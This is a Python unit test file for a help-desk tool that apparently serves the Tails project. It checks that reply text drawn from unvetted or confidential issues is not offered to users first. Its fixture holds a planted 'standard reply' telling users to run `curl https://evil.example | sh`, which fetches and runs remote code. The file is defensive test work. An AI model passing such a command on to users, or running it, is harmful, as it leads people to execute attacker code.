"""Issue text is offered as a reply only from vetted issues, never from confidential ones
(hdtui/domain/reply_choice.py, docs/replies.md "Issues whose text is vetted")."""

from __future__ import annotations

from dataclasses import replace

from hdtui.domain.issue import KnownIssue
from hdtui.domain.mail import Kind
from hdtui.domain.matching import Match
from hdtui.domain.reply_choice import (
    KNOWN_ISSUE_SLUG,
    NOT_VETTED,
    TRUSTED,
    Standing,
    Vetting,
    rank_replies,
)
from tests.unit.test_reply_choice import mail_to, templates

WRITTEN = ("## Summary\n\nWi-Fi fails.\n\n## Standard reply\n\nPlease run the command "
           "`curl https://evil.example | sh` and send us the output.\n")
VETTING = Vetting(labels=frozenset({"Help Desk"}), accounts=frozenset({"Sajolida"}))


def issue(iid: int = 7, labels: tuple[str, ...] = (), by: str = "", **more: object
          ) -> KnownIssue:
    return replace(KnownIssue(iid, "Wi-Fi does not work", WRITTEN, labels,
                              web_url=f"https://gitlab.test/tails/tails/-/issues/{iid}",
                              author=by, description_by=by), **more)  # type: ignore[arg-type]


def confident(found: KnownIssue) -> list[Match]:
    return [Match(found, 40.0, ("wi-fi",), confident=True)]


def test_vetted_by_label_or_by_the_account_that_last_wrote_the_description() -> None:
    assert VETTING.vetted(issue(labels=("Help Desk",)))
    assert VETTING.vetted(issue(by="sajolida"))  # usernames in any case
    assert not VETTING.vetted(issue(by="mallory"))
    assert not VETTING.vetted(issue(labels=("C:Wi-Fi",)))
    assert not VETTING.vetted(replace(issue(by="mallory"), author="sajolida"))
    assert TRUSTED.vetted(issue())


def test_a_confident_match_not_vetted_gives_the_generic_reply_first_and_its_own_last(
) -> None:
    choices = rank_replies(mail_to("support@tails.net"), templates(), confident(issue()),
                           vetting=VETTING)
    first = choices[0]
    assert first.template.slug == KNOWN_ISSUE_SLUG and first.standing is Standing.ISSUE
    assert NOT_VETTED in first.reason and "curl" not in first.template.body
    last = choices[-1]
    assert last.standing is Standing.UNVETTED and not last.standing.fits
    assert last.reason.startswith(f"from issue #7, {NOT_VETTED}: its Standard reply")
    assert "curl" in last.template.body
    assert sum("curl" in c.template.body for c in choices) == 1


def test_a_vetted_confident_match_gives_its_own_reply_first() -> None:
    for vetted in (issue(labels=("Help Desk",)), issue(by="sajolida")):
        choices = rank_replies(mail_to("support@tails.net"), templates(), confident(vetted),
                               vetting=VETTING)
        assert choices[0].standing is Standing.ISSUE and "curl" in choices[0].template.body
        assert not any(c.standing is Standing.UNVETTED for c in choices)


def test_a_possible_match_not_vetted_comes_after_every_standard_reply() -> None:
    found = [Match(issue(), 10.0, ("wi-fi",), confident=False)]
    choices = rank_replies(mail_to("support@tails.net"), templates(), found, vetting=VETTING)
    assert choices[-1].standing is Standing.UNVETTED and NOT_VETTED in choices[-1].reason
    thread = mail_to("tails-dev@boum.org", Kind.FT)
    listed = rank_replies(thread, templates(), found, vetting=VETTING)
    assert listed[-1].standing is Standing.UNVETTED


def test_a_confidential_issue_gives_no_reply_at_all() -> None:
    secret = issue(labels=("Help Desk",), confidential=True)
    choices = rank_replies(mail_to("support@tails.net"), templates(), confident(secret),
                           vetting=VETTING)
    assert not any("curl" in c.template.body or "issues/7" in c.template.body
                   for c in choices)
    assert not any(c.standing is Standing.ISSUE for c in choices)


def test_the_issues_pane_says_an_issue_is_confidential() -> None:
    from hdtui.ui.widgets.issue_list import match_prompt

    secret = issue(confidential=True)
    assert "Wi-Fi does not work (confidential)" in match_prompt(confident(secret)[0]).plain
    assert "confidential" not in match_prompt(confident(issue())[0]).plain
